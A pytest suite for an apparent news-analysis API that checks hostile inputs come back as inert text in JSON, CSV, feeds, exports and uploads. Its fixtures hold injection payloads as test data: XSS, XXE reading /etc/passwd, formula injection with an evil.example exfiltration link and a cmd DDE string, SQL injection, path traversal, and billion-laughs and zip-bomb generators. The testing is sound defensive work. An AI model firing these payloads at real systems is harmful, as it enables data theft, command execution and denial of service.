"""Hostile articles: what they hold is told as text in every format, runs nowhere, and nothing falls over."""

import csv
import io
import json
import time
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from urllib.parse import quote

import pytest
from lxml import etree, html

from rashomon.desk import Desk
from rashomon.model.report import Report
from rashomon.store import open_store
from tests.clients import V1, OneDesk, TestClient, asking
from tests.ledgers import BAKU, MARKET, YEREVAN

BIDI = "\u202e\u2066\u200f"
CONTROLS = "\x01\x1b[31m\x07\x0b\ufffe\uffff"
HEADS = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\"><svg onload=alert(1)>' onmouseover='alert(1)",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> {% raw %}",
    "cdata": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;&lt;script&gt;",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"look")',
    "formula of another kind": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": f"{BIDI}drow ehT",
    "controls": f"Red{CONTROLS} alert",
    "line ends": "one\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "path": "../../../../etc/passwd",
    "quotes": "'; DROP TABLE claims; --",
    "long": "A" * 50_000,
}
GENEROUS = 20.0  # seconds


def hostile(report: Report, head: str, number: int) -> Report:
    """A report whose every label is hostile."""
    document = replace(
        report.document,
        text=f"{report.document.text}\n{number}",
        title=head,
        outlet=head[:100],
        author=head[:100],
        origin=f"javascript:alert({number})//{head[:100]}",
    )
    provenance = replace(report.provenance, headline=head, outlet=head[:100], agency=head[:100], dateline=head[:100])
    return replace(report, document=document, provenance=provenance)


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory, desk: Desk) -> Iterator[TestClient]:
    place = tmp_path_factory.mktemp("hostile") / "ledger.db"
    with open_store(place) as store:
        given = [
            hostile(report, head, number)
            for number, head in enumerate(HEADS.values())
            for report in (YEREVAN, BAKU, MARKET)
        ]
        store.keep_all((None, report) for report in given)
        store.reject(HEADS["script"], HEADS["controls"])
    with asking(place, room=OneDesk(desk)) as client:
        yield client


LISTS = (
    "incidents",
    "claims",
    "documents",
    "dispatches",
    "actors",
    "places",
    "news",
    "rejections",
    "search?words=script",
)


@pytest.mark.parametrize("path", LISTS)
def test_lists_are_json_and_say_so(client: TestClient, path: str) -> None:
    answer = client.get(f"{V1}/{path}")
    assert (answer.status_code, answer.headers["content-type"]) == (200, "application/json")
    json.loads(answer.text)


def test_what_an_article_says_comes_back_as_it_was(client: TestClient) -> None:
    heads = {paper["headline"] for paper in client.get(f"{V1}/documents?limit=200").json()["items"]}
    assert set(HEADS.values()) <= heads


@pytest.mark.parametrize("path", ["incidents", "claims", "documents", "actors", "places"])
def test_no_cell_of_a_table_is_a_formula_or_breaks_its_line(client: TestClient, path: str) -> None:
    answer = client.get(f"{V1}/{path}?format=csv&limit=200")
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert {len(row) for row in rows} == {len(rows[0])}
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "@", "\t", "\r")) or "\n" in cell] == []


@pytest.mark.parametrize("name", ["all", "incidents", "contradictions"])
def test_feeds_are_whole_and_hold_no_markup(client: TestClient, name: str) -> None:
    atom = client.get(f"{V1}/feeds/{name}.atom?limit=200")
    tree = etree.fromstring(atom.content)
    tags = {etree.QName(element).localname for element in tree.iter()}
    assert tags <= {"feed", "id", "title", "updated", "published", "author", "name", "link", "generator"} | {
        "entry",
        "content",
        "category",
    }
    assert {element.get("type") for element in tree.iter("{*}content")} == {"text"}
    assert client.get(f"{V1}/feeds/{name}.json?limit=200").json()["version"].startswith("https://jsonfeed.org")


@pytest.mark.parametrize("form", ["claims", "events", "ged", "acled", "geojson", "jsonl", "ftm", "contradictions"])
def test_exports_are_files_and_no_pages(client: TestClient, form: str) -> None:
    answer = client.get(f"{V1}/exports/{form}")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "html" not in answer.headers["content-type"]
    assert answer.headers["x-content-type-options"] == "nosniff"


PARAMETERS = [
    *HEADS.values(),
    "%",
    "_",
    "\\",
    '"',
    "''",
    "NEAR(a b)",
    "a* OR b:c",
    "\u0000".join("ab"),
    "\ufdd0",
    "😀" * 100,
]


@pytest.mark.parametrize("said", PARAMETERS, ids=range(len(PARAMETERS)))
def test_nothing_in_a_question_is_more_than_words(client: TestClient, said: str) -> None:
    for name in ("party", "actor", "source", "outlet", "text", "place", "country", "after"):
        status = client.get(f"{V1}/incidents", params={name: said[:400]}).status_code
        assert status in {200, 404, 422}, name
    assert client.get(f"{V1}/search", params={"words": said[:400]}).status_code == 200
    for path in ("incidents", "documents", "actors", "exports", "feeds"):
        answer = client.get(f"{V1}/{path}/{quote(said[:100], safe='')}")
        assert answer.status_code in {200, 404, 422}
        assert "html" not in answer.headers["content-type"]


def test_a_problem_tells_what_was_asked_as_json(client: TestClient) -> None:
    answer = client.get(f"{V1}/<script>alert(1)</script>")
    assert (answer.status_code, answer.headers["content-type"]) == (404, "application/problem+json")


def test_the_only_page_holds_no_script(client: TestClient) -> None:
    page = html.fromstring(client.get(f"{V1}/docs").text)
    assert page.xpath("//script|//iframe|//object|//style|//*[@style]|//@*[starts-with(name(), 'on')]") == []
    assert {link for link in page.xpath("//@href|//@src") if not link.startswith("#")} == {"docs.css", "openapi.json"}


# What is sent to be read


def read(client: TestClient, content: bytes | Iterator[bytes], kind: str) -> tuple[int, str]:
    began = time.monotonic()
    answer = client.post(f"{V1}/read", content=content, headers={"Content-Type": kind})
    assert time.monotonic() - began < GENEROUS
    assert answer.headers["content-type"] in {"application/json", "application/problem+json"}
    return answer.status_code, answer.text


def docx(*, size: int) -> bytes:
    """A DOCX file whose text unpacks to so many bytes."""
    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", body + b"A" * size + b"</w:t></w:r></w:p></w:body></w:document>")
    return file.getvalue()


def test_a_paragraph_of_ten_megabytes_is_sent_back(client: TestClient) -> None:
    assert read(client, json.dumps({"text": "War " * 2_600_000}).encode(), "application/json")[0] == 413
    assert read(client, json.dumps({"text": "War " * 300_000}).encode(), "application/json")[0] == 422


def test_a_file_that_unpacks_to_a_mountain_is_not_unpacked(client: TestClient) -> None:
    bomb = docx(size=200_000_000)
    assert len(bomb) < 1_000_000
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    assert read(client, bomb, kind)[0] == 422


ENTITIES = b"""<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d SYSTEM "file:///etc/passwd">]>
<html><body><p>The ministry denied &c;&c;&d; on Tuesday that its forces had shelled the town.</p></body></html>"""


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (ENTITIES, "text/html"),
        (b"<div>" * 100_000, "text/html"),
        (b"<p>" + b"<b>x" * 50_000, "text/html"),
        (b"\x00" * 100_000, "text/html"),
        (b"\xff\xfe" + b"<p>x" * 10, "text/html"),
        (b"%PDF-1.4\n" + b"1 0 obj<</Type/Catalog/Pages 1 0 R>>endobj\n" * 1000, "application/pdf"),
        (b'{"text":' * 20_000, "application/json"),
        (b'{"text": "x", ' + b'"a": 1, ' * 50_000 + b'"b": 2}', "application/json"),
        (b'{"text": "' + b"\\u202e" * 1000 + b'"}', "application/json"),
        (b'{"text": "a\\u0000b"}', "application/json"),
        (b'{"text": "' + b"(" * 500 + b'"}', "application/json"),
    ],
    ids=range(11),
)
def test_what_is_sent_to_be_read_is_read_or_refused(client: TestClient, content: bytes, kind: str) -> None:
    status, text = read(client, content, kind)
    assert status in {200, 422}
    assert "root:" not in text


def test_what_is_read_of_a_script_is_text(client: TestClient) -> None:
    said = "<script>alert(1)</script> Baku denied on Tuesday that its forces had shelled Goris."
    status, text = read(client, json.dumps({"text": said}).encode(), "application/json")
    assert status == 200
    assert json.loads(text)["document"]["text"] == said
